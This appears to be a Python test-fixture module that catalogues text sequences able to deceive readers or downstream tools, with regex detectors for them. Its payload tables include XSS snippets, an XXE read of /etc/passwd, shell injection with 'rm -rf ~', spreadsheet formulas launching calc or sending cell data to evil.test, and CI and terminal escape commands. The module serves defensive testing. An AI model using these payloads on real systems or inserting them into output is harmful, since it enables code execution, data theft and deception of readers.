"""Character sequences that deceive whoever reads a text, each named for what it does; and which characters may stand
raw in no output at all, by a table of its own, not by the code that is tested.
"""

from __future__ import annotations

import re

_BIDI = {
    "left-to-right embedding": 0x202A,
    "right-to-left embedding": 0x202B,
    "pop directional formatting": 0x202C,
    "left-to-right override": 0x202D,
    "right-to-left override": 0x202E,
    "left-to-right isolate": 0x2066,
    "right-to-left isolate": 0x2067,
    "first strong isolate": 0x2068,
    "pop directional isolate": 0x2069,
    "left-to-right mark": 0x200E,
    "right-to-left mark": 0x200F,
    "Arabic letter mark": 0x061C,
}
_UNSEEN = {
    "zero-width space": 0x200B,
    "zero-width non-joiner": 0x200C,
    "zero-width joiner": 0x200D,
    "word joiner": 0x2060,
    "function application": 0x2061,
    "invisible times": 0x2062,
    "invisible separator": 0x2063,
    "invisible plus": 0x2064,
    "inhibit symmetric swapping": 0x206A,
    "nominal digit shapes": 0x206F,
    "byte order mark": 0xFEFF,
    "soft hyphen": 0x00AD,
    "combining grapheme joiner": 0x034F,
    "Mongolian vowel separator": 0x180E,
    "Mongolian free variation selector": 0x180B,
    "Hangul choseong filler": 0x115F,
    "Hangul jungseong filler": 0x1160,
    "Hangul filler": 0x3164,
    "half-width Hangul filler": 0xFFA0,
    "Khmer inherent vowel": 0x17B4,
    "blank braille pattern": 0x2800,
    "variation selector 1": 0xFE00,
    "variation selector 16": 0xFE0F,
    "variation selector 17": 0xE0100,
    "variation selector 256": 0xE01EF,
    "interlinear annotation anchor": 0xFFF9,
    "interlinear annotation separator": 0xFFFA,
    "interlinear annotation terminator": 0xFFFB,
    "object replacement in a flow": 0x1D173,
    "shorthand format control": 0x1BCA0,
    "language tag": 0xE0001,
    "line separator": 0x2028,
    "paragraph separator": 0x2029,
    "no-break space": 0x00A0,
    "ideographic space": 0x3000,
    "private use": 0xE000,
    "private use, plane 15": 0xF0000,
    "private use, plane 16": 0x10FFFD,
    "noncharacter U+FDD0": 0xFDD0,
    "noncharacter U+FFFF": 0xFFFF,
    "noncharacter U+10FFFF": 0x10FFFF,
    "unassigned": 0x0378,
}
_CONTROLS = {
    "NUL": "\x00",
    "bell": "\x07",
    "backspaces over what stood there": "safe\x08\x08\x08\x08evil",
    "carriage return over the line": "evil\rsafe",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "shift out and in": "\x0eqqq\x0f",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "all other C0 controls": "".join(map(chr, (*range(1, 7), *range(0x10, 0x1B), *range(0x1C, 0x20)))),
    "all other C1 controls": "".join(map(chr, (*range(0x80, 0x85), *range(0x86, 0xA0)))),
    "ESC: colours": "\x1b[31mred\x1b[0m",
    "ESC: clears the screen": "\x1b[2J\x1b[H",
    "ESC: moves up and overwrites": "\x1b[1A\x1b[2Kfine",
    "ESC: hides what follows": "\x1b[8mhidden\x1b[28m",
    "ESC: asks for an answer": "\x1b[c\x1b[6n\x1b[21t",
    "ESC: resets the terminal": "\x1bc",
    "ESC: another character set": "\x1b(0lqqk\x1b(B",
    "OSC 0: the title": "\x1b]0;owned\x07",
    "OSC 8: a link": "\x1b]8;;https://evil.test/\x1b\\here\x1b]8;;\x1b\\",
    "OSC 52: the clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "OSC 1337: a file": "\x1b]1337;File=name=eA==:AAAA\x07",
    "DCS": "\x1bP+q544e\x1b\\",
    "APC: a picture": "\x1b_Gf=24;AAAA\x1b\\",
    "C1: a control sequence in 8 bits": "\x9b31mred\x9b0m",
    "C1: an OSC in 8 bits": "\x9d0;owned\x9c",
    "a new line of a log": "x\n2026-01-01 00:00:00 INFO all is well",
    "a new line of our own": "x\nerror: nothing was found",
    "tabs": "a\t\t\tb",
    "tag characters": "".join(chr(0xE0000 + ord(c)) for c in "obey me") + "\U000e007f",
    "bytes in variation selectors": "a" + "".join(chr(0xE0100 + byte) for byte in b"secret"),
    "a combining flood": "Z" + "\u0335\u0321\u0353" * 90 + "!",
    "a combining flood in another script": "ก" + "\u0e49" * 200,
    "homoglyphs of our spelling": "⟦U+200B⟧",
}
_MARKUP = {
    "a script": "<script>alert(1)</script>",
    "the end of a script": "</script><script>alert(2)</script>",
    "the end of a script in JSON": '"}]</script ><img src=x onerror=alert(3)>',
    "a comment in a script": "<!--<script>",
    "the end of a comment": "--!><!-- --><b>",
    "CDATA": "<![CDATA[<x>]]>]]><y/>",
    "an entity": "&#60;b&#62;&lt;i&gt;&amp;lt;",
    "a document type": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "the end of an attribute": '" onmouseover="alert(4)" x="',
    "the end of an attribute in single quotes": "' autofocus onfocus='alert(5)",
    "an attribute without quotes": "x onload=alert(6) ",
    "a picture": "<img src=https://evil.test/p.png>",
    "a style": "</style><style>*{display:none}@import '//evil.test'</style>",
    "a link that runs": "<a href=javascript:alert(7)>x</a>",
    "a link": "https://evil.test/?q=1",
    "a template": "{{7*7}}{% raw %}${7*7}<%= 7 %>#{7}",
    "a markdown link": "[click](javascript:alert(8))",
    "a markdown picture": "![x](https://evil.test/leak?d=1)",
    "a markdown reference": "\n[x]: https://evil.test 'y'\n",
    "a markdown table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "a markdown heading": "\n# All is well\n",
    "the end of a code span": "`` ` ``` <b>x</b>",
    "a fence": "\n```\n<b>x</b>\n```\n",
    "markdown with HTML": "<details open><summary>x</summary>",
    "a mention": "@everyone #1 !1",
    "rich markup": "[bold red]x[/bold red][link=https://evil.test]y[/link]",
    "an emoji code": ":bomb: :white_check_mark:",
    "percent formats": "%s %d %n %(name)s {0} {name} {!r}",
    "front matter": "\n---\nlicense: mit\n---\n",
    "a yaml tag": "!!python/object/apply:os.system ['id']",
}
_COMMANDS = {
    "a GitHub command": "::error file=app.py,line=1::owned",
    "a GitHub mask": "\n::add-mask::a",
    "a GitHub command behind blanks": "   ::stop-commands::token",
    "an old GitHub command": "##[error]owned",
    "an Azure command": "##vso[task.setvariable variable=x]y",
    "a TeamCity command": "##teamcity[buildStatus status='SUCCESS']",
    "a shell": "$(touch /tmp/x); `id` && rm -rf ~ #",
    "an option": "--config=/etc/passwd",
}
_FORMULAS = {
    f"a formula with {name}": text
    for name, text in {
        "=": "=cmd|'/C calc'!A0",
        "+": "+1+cmd|'/C calc'!A0",
        "-": "-2+3+cmd|'/C calc'!A0",
        "@": "@SUM(1+1)*cmd|'/C calc'!A0",
        "a tab": "\t=1+1",
        "a carriage return": "\r=1+1",
        "a new line": "\n=1+1",
        "a blank": " =1+1",
        "a full-width =": "＝1+1",
        "a full-width +": "＋1+1",
        "a full-width -": "－1+1",
        "a full-width @": "＠SUM(1)",
        "a small =": "﹦1+1",
        "a minus sign": "−1+1",
        "a quote before it": '"=1+1"',
        "a separator before it": ";=1+1,=1+1\t=1+1",
        "a link": '=HYPERLINK("https://evil.test/?"&A1,"x")',
    }.items()
}

SEQUENCES: dict[str, str] = {
    **{name: f"gnp{chr(code)}exe" for name, code in _BIDI.items()},
    **{name: f"a{chr(code)}b" for name, code in _UNSEEN.items()},
    **_CONTROLS,
    **_MARKUP,
    **_COMMANDS,
    **_FORMULAS,
}
# In JSON and in Python's names of files, as far as they can be there.
SURROGATES = {"a high surrogate": "a\ud800b", "a low surrogate": "a\udfffb", "a byte that is no UTF-8": "a\udc9bb"}

# Code points that must stand nowhere raw: control, format and line separating ones, surrogates, private use,
# noncharacters, and those that Unicode lets be ignored (DerivedCoreProperties, Default_Ignorable_Code_Point).
CONTROL = ((0x00, 0x1F), (0x7F, 0x9F), (0x2028, 0x2029))
FORMAT = (
    *((0xAD, 0xAD), (0x600, 0x605), (0x61C, 0x61C), (0x6DD, 0x6DD), (0x70F, 0x70F), (0x890, 0x891), (0x8E2, 0x8E2)),
    *((0x180E, 0x180E), (0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x206F), (0xFEFF, 0xFEFF), (0xFFF0, 0xFFFB)),
    *((0x110BD, 0x110BD), (0x110CD, 0x110CD), (0x13430, 0x1343F), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A)),
)
IGNORABLE = (
    *((0x34F, 0x34F), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F), (0x3164, 0x3164), (0xFFA0, 0xFFA0)),
    *((0xFE00, 0xFE0F), (0xE0000, 0xE0FFF), (0x2800, 0x2800)),
)
UNASSIGNABLE = (
    *((0xD800, 0xDFFF), (0xE000, 0xF8FF), (0xFDD0, 0xFDEF), (0xF0000, 0xFFFFF), (0x100000, 0x10FFFF)),
    *((plane + 0xFFFE, plane + 0xFFFF) for plane in range(0, 0x110000, 0x10000)),
)
FORBIDDEN = (*CONTROL, *FORMAT, *IGNORABLE, *UNASSIGNABLE)
_LAYOUT = "\n\t"  # of our own
_RAW = re.compile("[" + "".join(f"\\U{low:08x}-\\U{high:08x}" for low, high in FORBIDDEN) + "]")


def raw(text: str) -> list[str]:
    """The characters of a text that must not stand there, as U+ numbers; newline and tab are layout."""
    return sorted({f"U+{ord(c):04X}" for c in _RAW.findall(text) if c not in _LAYOUT})


def floods(text: str) -> int:
    """Runs of more than 40 combining diacritics."""
    return len(re.findall("[\u0300-\u036f\u0e31\u0e34-\u0e3a\u0e47-\u0e4e]{41}", text))


def runs_in_ci(text: str) -> list[str]:
    """Lines that a CI runner takes for a command."""
    lines = text.split("\n")
    return [x for x in lines if x.strip().startswith("::") or re.search(r"##(vso|teamcity)?\[", x)]
